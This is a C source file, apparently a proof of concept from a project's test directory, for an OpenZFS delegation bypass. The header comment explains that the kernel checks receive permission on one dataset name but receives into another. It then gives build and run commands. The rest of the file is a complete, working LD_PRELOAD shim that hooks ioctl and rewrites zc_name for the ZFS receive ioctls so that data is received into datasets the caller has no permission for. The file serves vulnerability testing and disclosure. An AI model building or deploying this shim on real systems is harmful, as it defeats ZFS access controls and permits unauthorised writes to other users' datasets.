/*
 * Proof of an OpenZFS delegation bypass (seen on 2.1.11 and 2.3.2; zkeep's
 * workers under root hold no receive because of it, a systemd job unit's
 * still does: docs/security.md "Not done yet"): the kernel checks the
 * receive permission on the name the ioctl is given (zc_name) and receives
 * into another one (zc_value, or innvl "snapname"), and never checks that
 * they match. This LD_PRELOAD shim rewrites zc_name of ZFS_IOC_RECV (0x5a1b)
 * and ZFS_IOC_RECV_NEW (0x5a46) to $SHIM_NAME, a dataset where the caller
 * holds receive. Build: cc -shared -fPIC -o recv-name-shim.so recv-name-shim.c -ldl
 * Run: tests/guest/run.sh tests/poc/recv-name-bypass.sh (not part of the suite).
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
int ioctl(int fd, unsigned long req, ...)
{
	va_list ap;
	va_start(ap, req);
	void *arg = va_arg(ap, void *);
	va_end(ap);
	static int (*real)(int, unsigned long, void *);
	if (!real)
		real = (int (*)(int, unsigned long, void *))dlsym(RTLD_NEXT, "ioctl");
	const char *name = getenv("SHIM_NAME");
	if (getenv("SHIM_DEBUG"))
		fprintf(stderr, "shim: ioctl %#lx on '%.60s'\n", req, arg ? (char *)arg : "");
	if (((req & 0xffff) == 0x5a46 || (req & 0xffff) == 0x5a1b) && name && arg) {
		fprintf(stderr, "shim: zc_name '%s' -> '%s'\n", (char *)arg, name);
		strcpy((char *)arg, name);
	}
	return real(fd, req, arg);
}
